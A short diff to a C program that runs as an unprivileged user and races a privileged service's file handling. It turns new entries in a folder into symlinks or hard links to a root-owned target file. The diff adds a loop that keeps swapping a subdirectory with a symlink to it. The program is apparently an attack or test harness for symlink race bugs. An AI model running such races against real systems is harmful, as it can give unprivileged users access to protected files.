@@ -1,4 +1,5 @@
-/* A service's user who wants a file of root's: whatever appears in the folder becomes a link to it, or a hard link. */
+/* A service's user who wants a file of root's: whatever appears in the folder becomes a link to it, or a hard link.
+   With a third argument nothing does, but its folder "inner" is now itself, now a link to that. */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <stdio.h>
@@ -12,9 +13,17 @@ int main(int argc, char **argv) {
   const char *folder = argv[1], *victim = argv[2];
   unsigned n = 0;
   char away[64];
-  if (argc != 3 || chdir(folder)) return 1;
+  if (argc < 3 || chdir(folder)) return 1;
   if (setgid(65534) || setuid(65534)) return 2;
   puts("begun"); fflush(stdout);
+  while (argc > 3) {
+    if (rename("inner", "away")) return 4;
+    symlink(argv[3], "inner");
+    for (n = 0; n < 20000; n++) __asm__ volatile("");
+    unlink("inner");
+    rename("away", "inner");
+    for (n = 0; n < 20000; n++) __asm__ volatile("");
+  }
   for (;;) {
     DIR *dir = opendir(".");
     struct dirent *one;
